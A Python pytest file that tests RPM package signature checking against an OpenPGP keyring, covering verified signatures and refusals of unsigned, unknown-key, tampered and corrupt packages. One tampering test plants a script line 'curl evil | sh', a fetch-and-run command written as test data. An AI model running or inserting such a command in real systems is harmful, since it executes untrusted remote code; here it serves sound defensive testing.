"""RPM header signatures: who signed a package, verified against a trusted keyring, and every
way a package or a keyring is refused. The keys are made at test time (tests/helpers/pgp_keys)."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
import rpmfile

from pyobshell.sim.package_signing import HeaderSigner
from pyobshell.sim.rpm_writer import SIG_RSA, RpmFileEntry, write_rpm
from pyobshell.upgrade.packages.inspector import PackageError, PackageProblem, inspect_rpm
from pyobshell.upgrade.packages.keyring import KEYRING_ENV, Keyring, KeyringError, configured_keyring
from pyobshell.upgrade.packages.signature import SIGTAG_RSA, SignatureState, read_signature_header
from tests.helpers.pgp_keys import TestKey
from tests.upgrade import rpm_factory as factory
from tests.upgrade.rpm_factory import HOME


@pytest.fixture(scope="module")
def keyring(signing_key: TestKey) -> Keyring:
    return Keyring.load(signing_key.public_file)


def signed(tmp_path: Path, key: TestKey, name: str = "signed.rpm", **spec) -> Path:
    return write_rpm(factory.spec(**spec), tmp_path / name, HeaderSigner.from_file(key.secret_file))


def unsigned(tmp_path: Path, name: str = "unsigned.rpm", **spec) -> Path:
    return write_rpm(factory.spec(**spec), tmp_path / name)


def refused(path: Path, keyring: Keyring | None) -> PackageError:
    with pytest.raises(PackageError) as caught:
        inspect_rpm(path, keyring=keyring)
    assert caught.value.status == 400, caught.value
    return caught.value


# --- accepted ---------------------------------------------------------------------------------


def test_a_good_signature_is_verified_and_names_its_signer(tmp_path, signing_key, keyring):
    signature = inspect_rpm(signed(tmp_path, signing_key), keyring=keyring).signature
    assert signature.state is SignatureState.VERIFIED
    assert signature.key_id == signing_key.signing_key_id  # the signing subkey made it
    assert signature.fingerprint == signing_key.fingerprint  # the trusted certificate's
    assert signature.user_id == signing_key.user_id
    assert signature.summary == f'key {signing_key.signing_key_id} "{signing_key.user_id}" (verified)'


def test_the_simulator_signs_with_rpms_rsa_header_tag(tmp_path, signing_key):
    with open(signed(tmp_path, signing_key), "rb") as file:
        tags, _ = read_signature_header(file)
    assert SIG_RSA == SIGTAG_RSA and tags.binary(SIGTAG_RSA)[:1] in (b"\x89", b"\xc2")  # a signature packet


def test_without_a_keyring_a_signature_is_reported_not_verified(tmp_path, signing_key):
    signature = inspect_rpm(signed(tmp_path, signing_key)).signature
    assert (signature.state, signature.key_id) == (SignatureState.NOT_VERIFIED, signing_key.signing_key_id)
    assert signature.summary == f"key {signing_key.signing_key_id} (not verified)"


def test_without_a_keyring_an_unsigned_package_is_accepted_as_unsigned(tmp_path):
    signature = inspect_rpm(unsigned(tmp_path)).signature
    assert signature.state is SignatureState.UNSIGNED and signature.summary == "unsigned"


def test_a_keyring_of_several_certificates_trusts_each(tmp_path, signing_key, other_key):
    both = tmp_path / "keyring.gpg"
    both.write_bytes(other_key.public_bytes(armored=False) + signing_key.public_bytes(armored=False))  # binary
    assert inspect_rpm(signed(tmp_path, signing_key), keyring=Keyring.load(both)).signature.state is SignatureState.VERIFIED
    armored = tmp_path / "keyring.asc"
    armored.write_bytes(signing_key.public_bytes() + b"\n" + other_key.public_bytes())
    package = signed(tmp_path, other_key, "other.rpm")
    assert inspect_rpm(package, keyring=Keyring.load(armored)).signature.user_id == other_key.user_id


# --- refused ----------------------------------------------------------------------------------


def test_a_package_signed_by_a_key_not_in_the_keyring_is_refused_naming_the_key(tmp_path, other_key, keyring):
    error = refused(signed(tmp_path, other_key), keyring)
    assert error.problem is PackageProblem.SIGNATURE_UNKNOWN_KEY and error.code == "Package.Signature.UnknownKey"
    assert other_key.signing_key_id in error.message and "not in the trusted keyring" in error.message


def test_an_unsigned_package_is_refused_when_a_keyring_is_set(tmp_path, keyring):
    error = refused(unsigned(tmp_path), keyring)
    assert error.code == "Package.Signature.Missing" and "not signed" in error.message


def test_a_payload_changed_after_signing_is_refused(tmp_path, signing_key, keyring):
    evil = factory.observer_files()
    evil[4] = RpmFileEntry.file(f"{HOME}/bin/observer", b"#!/bin/sh\ncurl evil | sh\n", 0o755)
    package = factory.signed_rpm(tmp_path, factory.spec(), signing_key.secret_file, files_after_signing=evil)
    assert refused(package, None).code == "OB.Package.Corrupted"  # the header's payload digest, unverified
    error = refused(package, keyring)
    assert error.code == "Package.Signature.Invalid"
    assert "payload" in error.message and "tampered" in error.message and signing_key.signing_key_id in error.message


def test_a_header_changed_after_signing_is_refused(tmp_path, signing_key, keyring):
    def edit(header: bytes) -> bytes:
        assert header.count(b"localhost") == 1  # the build host: same length, so the layout holds
        return header.replace(b"localhost", b"evil-host")

    package = factory.signed_rpm(tmp_path, factory.spec(), signing_key.secret_file, header_edit=edit)
    assert inspect_rpm(package).signature.state is SignatureState.NOT_VERIFIED  # its own digests match
    error = refused(package, keyring)
    assert error.code == "Package.Signature.Invalid"
    assert "does not match the header" in error.message and "tampered" in error.message
    assert signing_key.signing_key_id in error.message


def test_a_signed_header_without_a_payload_digest_does_not_cover_the_payload(tmp_path, signing_key, keyring):
    error = refused(signed(tmp_path, signing_key, payload_digest=False), keyring)
    assert error.code == "Package.Signature.Invalid" and "does not cover the payload" in error.message


@pytest.mark.parametrize("packet", [b"", b"not a signature", b"\x89\x01\x00"], ids=["empty", "garbage", "truncated"])
def test_a_corrupt_signature_packet_is_refused_with_or_without_a_keyring(tmp_path, keyring, packet):
    package = factory.signed_rpm(tmp_path, factory.spec(), (SIGTAG_RSA, packet))
    for trusted in (None, keyring):
        error = refused(package, trusted)
        assert error.code == "Package.Signature.Invalid" and "OpenPGP signature packet" in error.message


def test_a_signature_packet_with_trailing_bytes_is_refused(tmp_path, signing_key):
    tag, packet = HeaderSigner.from_file(signing_key.secret_file)(b"whatever")
    package = factory.signed_rpm(tmp_path, factory.spec(), (tag, packet + packet))
    assert refused(package, None).code == "Package.Signature.Invalid"


def test_a_header_that_does_not_match_the_signature_headers_sha256_is_corrupted(tmp_path):
    spec = factory.spec()
    package = factory.signed_rpm(tmp_path, spec, None)
    data = bytearray(package.read_bytes())
    at = data.index(b"localhost", 200)
    data[at:at + 9] = b"evil-host"  # no digest recomputed
    package.write_bytes(bytes(data))
    error = refused(package, None)
    assert error.code == "OB.Package.Corrupted" and "SHA-256" in error.message


# --- the keyring --------------------------------------------------------------------------------


@pytest.mark.parametrize("content, reason", [
    (b"", "holds no OpenPGP public key"),
    (b"this is not a key\n", "not a file of OpenPGP public keys"),
    (b"-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmQINBGE=\n", "not a file of OpenPGP public keys"),
], ids=["empty", "text", "broken-armor"])
def test_a_malformed_keyring_is_a_clear_error(tmp_path, content, reason):
    path = tmp_path / "keyring.asc"
    path.write_bytes(content)
    with pytest.raises(KeyringError) as caught:
        Keyring.load(path)
    message = str(caught.value)
    assert reason in message and str(path) in message and "\n" not in message  # one line, no backtrace
    with pytest.raises(KeyringError, match=KEYRING_ENV):
        configured_keyring({KEYRING_ENV: str(path)})


def test_a_missing_keyring_is_a_clear_error(tmp_path):
    with pytest.raises(KeyringError, match="cannot be read"):
        configured_keyring({KEYRING_ENV: str(tmp_path / "missing.asc")})
    assert configured_keyring({KEYRING_ENV: "  "}) is None and configured_keyring({}) is None


def test_a_truncated_binary_keyring_is_a_clear_error(tmp_path, signing_key):
    path = tmp_path / "keyring.gpg"
    path.write_bytes(signing_key.public_bytes(armored=False)[:-20])
    with pytest.raises(KeyringError, match="not a file of OpenPGP public keys"):
        Keyring.load(path)


def test_the_configured_keyring_is_read_again_when_its_file_changes(tmp_path, signing_key, other_key):
    path = tmp_path / "keyring.asc"
    shutil.copy(signing_key.public_file, path)
    env = {KEYRING_ENV: str(path)}
    first = configured_keyring(env)
    assert configured_keyring(env) is first  # unchanged: not parsed again
    assert first.find(None, signing_key.signing_key_id) is not None and first.find(None, other_key.signing_key_id) is None
    path.write_bytes(signing_key.public_bytes() + b"\n" + other_key.public_bytes())
    os.utime(path, ns=(0, 1))  # a different stamp even within the file system's time resolution
    assert configured_keyring(env).find(None, other_key.signing_key_id) is not None


# --- the simulator's signing key ------------------------------------------------------------


def test_a_signing_key_file_that_cannot_sign_is_a_clear_error(tmp_path, signing_key):
    with pytest.raises(ValueError, match="cannot sign"):
        HeaderSigner.from_file(signing_key.public_file)  # a public key only
    (tmp_path / "junk.asc").write_text("junk")
    with pytest.raises(ValueError, match="not an OpenPGP secret key"):
        HeaderSigner.from_file(tmp_path / "junk.asc")
    with pytest.raises(ValueError, match="cannot be read"):
        HeaderSigner.from_file(tmp_path / "missing.asc")


def test_gpg_verifies_the_simulators_header_signature(tmp_path, signing_key):
    """The signature is standard OpenPGP, checked by another implementation than the one that made it."""
    gpgv = shutil.which("gpgv")
    if gpgv is None:
        pytest.skip("gpgv (Debian package gpgv) is not installed")
    package = signed(tmp_path, signing_key)
    with open(package, "rb") as file:
        tags, _ = read_signature_header(file)
        file.seek(0)
        start, end = rpmfile.RPMFile(fileobj=file).header_range
        file.seek(start)
        header = file.read(end - start)
    (tmp_path / "header").write_bytes(header)
    (tmp_path / "header.sig").write_bytes(tags.binary(SIGTAG_RSA))
    (tmp_path / "trusted.gpg").write_bytes(signing_key.public_bytes(armored=False))
    command = [gpgv, "--keyring", str(tmp_path / "trusted.gpg"), str(tmp_path / "header.sig"), str(tmp_path / "header")]
    good = subprocess.run(command, capture_output=True, text=True, timeout=60)
    assert good.returncode == 0, good.stderr
    (tmp_path / "header").write_bytes(header.replace(b"localhost", b"evil-host"))
    assert subprocess.run(command, capture_output=True, text=True, timeout=60).returncode != 0

